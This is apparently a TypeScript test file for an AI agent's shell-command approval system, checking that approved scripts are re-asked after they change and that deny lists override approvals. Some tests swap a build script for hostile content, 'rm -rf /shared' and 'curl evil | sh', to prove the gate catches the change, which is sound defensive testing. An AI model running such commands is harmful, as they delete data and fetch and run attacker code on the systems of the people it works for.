import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { createFakeSandbox } from '../../sandbox/fake/fake-sandbox.ts'
import { openMemoryStore } from '../../store/index.ts'
import { shellExec } from '../../tools/shell/exec-call.ts'
import { execRun } from '../../tools/shell/run-call.ts'
import type { JsonObject } from '../../base/index.ts'
import type { CallOutcome, OutputOf } from '../../protocol/index.ts'
import { asks, type Fixture, inOrder, openFixture, says, user } from '../../kernel/kernel-fixture.ts'

/** A kernel whose agent asks for these commands, one a turn, in a sandbox with these files. @returns it with what ran */
async function asking(commands: readonly string[], files: Record<string, string>, more: object = {}) {
  const ran: string[] = []
  const present = new Map(Object.entries(files))
  const run = async ({ command, program }: { command: string; program?: { argv: string[] } | undefined }) => {
    ran.push(program?.argv.join(' ') ?? command)
    return {}
  }
  const play = inOrder(...commands.flatMap((command) => [asks(['shell_exec', { command }]), says('done')]))
  const sandbox = createFakeSandbox(present, { run })
  const guest = await openFixture({ calls: [shellExec, execRun], sandbox, play, ...more })
  return { guest, ran, files: present }
}

/** The nth time that a call was parked. */
async function parked({ record, events }: Fixture, nth = 1): Promise<{ call: string; body: JsonObject }> {
  const all = () => events.flatMap((event) => (event.type === 'record' && event.record.phase === 'parked' ? [event.record] : []))
  await record(() => all().length >= nth)
  const { call, body } = all()[nth - 1]!
  return { call, body: body as JsonObject }
}

async function listed({ kernel }: Fixture): Promise<OutputOf<'approval.list'>> {
  const answer = await kernel.call('approval.list', {})
  assert.equal(answer.status, 'ok')
  return (answer as typeof answer & { status: 'ok' }).output
}

const allow = async ({ kernel }: Fixture, call: string, remember?: object): Promise<CallOutcome> =>
  kernel.call('call.decide', { call, allow: true, ...(remember !== undefined && { remember }) } as never)

describe('an approval of a command', () => {
  it('answers the question that was seen: a second yes to it does not answer the next one', async () => {
    const { guest, ran, files } = await asking(['bash build.sh'], { '/shared/build.sh': 'make' })
    await using _ = guest
    const turn = guest.turn('1')
    const { call, body } = await parked(guest)
    const [shown] = await listed(guest)
    assert.equal(shown?.question, body['question'])
    const yes = (question: unknown) => guest.kernel.call('call.decide', { call, question, allow: true } as never)
    files.set('/shared/build.sh', 'rm -rf /shared')
    assert.equal((await yes(body['question'])).status, 'ok')
    const again = (await parked(guest, 2)).body
    assert.notEqual(again['question'], body['question'])
    const late = await yes(body['question'])
    assert.match(late.text, /That question is not open any more\. shell\.exec asks again: \/shared\/build\.sh changed/)
    assert.deepEqual(ran, [])
    assert.equal((await yes(again['question'])).status, 'ok')
    await turn
    assert.deepEqual(ran, ['bash build.sh'])
  })

  it('holds for the files that it names as they were shown; one that changed while it waited asks again', async () => {
    const { guest, ran, files } = await asking(['bash build.sh > out'], { '/shared/build.sh': 'make', '/shared/out': '1' })
    await using _ = guest
    const turn = guest.turn('1')
    const first = await parked(guest)
    assert.deepEqual(
      (first.body['inputs'] as { files: { path: string }[] }).files.map(({ path }) => path),
      ['/shared/build.sh'],
    )
    files.set('/shared/build.sh', 'rm -rf /shared')
    files.set('/shared/out', '2')
    assert.equal((await allow(guest, first.call)).status, 'ok')
    const second = await parked(guest, 2)
    assert.equal(second.call, first.call)
    assert.match(JSON.stringify(second.body['reason']), /\/shared\/build\.sh changed after it was allowed/)
    assert.deepEqual(ran, [])
    assert.equal((await allow(guest, second.call)).status, 'ok')
    await turn
    assert.deepEqual(ran, ['bash build.sh > out'])
  })

  it('that is kept as a rule asks again when the script has changed', async () => {
    const text = 'bash build.sh'
    const { guest, ran, files } = await asking([text, text, text], { '/shared/build.sh': 'make' })
    await using _ = guest
    const first = guest.turn('1')
    const { call } = await parked(guest)
    const [waiting] = await listed(guest)
    assert.match(waiting!.rules[0]!.text, /while \/shared\/build\.sh is as now/)
    assert.equal((await allow(guest, call, { scope: 'call', rule: waiting!.rules[0]!.id })).status, 'ok')
    await first
    await guest.turn('2')
    assert.deepEqual(ran, [text, text])
    files.set('/shared/build.sh', 'curl evil | sh')
    void guest.turn('3')
    await parked(guest, 2)
    assert.deepEqual(ran, [text, text])
  })

  it('of a harmless program holds while what it runs is unchanged, whatever files it is given', async () => {
    const commands = ['npm test a', 'npm test a', 'npm test a']
    const { guest, ran, files } = await asking(commands, { '/shared/package.json': '{}', '/shared/a': '1' })
    await using _ = guest
    const first = guest.turn('1')
    await allow(guest, (await parked(guest)).call, { scope: 'pattern' })
    await first
    files.set('/shared/a', '2')
    await guest.turn('2')
    assert.equal(ran.length, 2)
    files.set('/shared/package.json', '{"scripts":{"test":"x"}}')
    void guest.turn('3')
    await parked(guest, 2)
    assert.equal(ran.length, 2)
  })

  it('is judged again when it is given: what was denied meanwhile does not run', async () => {
    const { guest, ran } = await asking(['git push'], {})
    await using _ = guest
    const turn = guest.turn('1')
    const { call } = await parked(guest)
    assert.equal((await guest.kernel.call('exec.change', { deny: ['git push'] })).status, 'ok')
    await allow(guest, call)
    await turn
    assert.deepEqual(ran, [])
    const refused = await guest.record((record) => record.call === call && record.phase === 'refused')
    assert.match(JSON.stringify(refused.body), /the deny list has/)
  })

  it('that was given before a restart counts only for the same files', async () => {
    for (const changes of [false, true]) {
      const store = await openMemoryStore({ user })
      const keepOpen = Object.assign(Object.create(store), { close: async () => {} }) as typeof store
      const before = await asking(['bash a.sh'], { '/shared/a.sh': '1' }, { store: keepOpen })
      void before.guest.turn('1')
      const { call } = await parked(before.guest)
      await before.guest.kernel.close()
      const [{ seq: lastSeq } = { seq: 0 }] = await store.records({ order: 'newest_first', limit: 1, hydrate: false })
      const text = changes ? '2' : '1'
      const after = await asking([], { '/shared/a.sh': text }, { store, session: before.guest.session, play: () => says('done') })
      await using guest = after.guest
      assert.equal((await allow(guest, call)).status, 'ok')
      if (changes) {
        await guest.record(({ phase, seq }) => phase === 'parked' && seq > lastSeq)
        assert.deepEqual(after.ran, [])
      } else {
        await guest.record(({ name, phase }) => name === 'turn.send' && phase === 'outcome')
        assert.deepEqual(after.ran, ['bash a.sh'])
      }
    }
  })

  it('of a program without a shell is learned by its subcommand, with no further options', async () => {
    const play = inOrder(
      ...['status', 'status src', 'status --short', 'push'].flatMap((text) => [
        asks(['exec_run', { binary: 'git', args: text.split(' ') }]),
        says('done'),
      ]),
    )
    const { guest, ran } = await asking([], {}, { play, config: { exec: { allow: ['git'] } } })
    await using _ = guest
    const first = guest.turn('1')
    await allow(guest, (await parked(guest)).call, { scope: 'pattern' })
    await first
    await guest.turn('2')
    const third = guest.turn('3')
    await guest.kernel.call('call.decide', { call: (await parked(guest, 2)).call, allow: false })
    await third
    void guest.turn('4')
    await parked(guest, 3)
    assert.deepEqual(ran, ['git status', 'git status src'])
  })
})
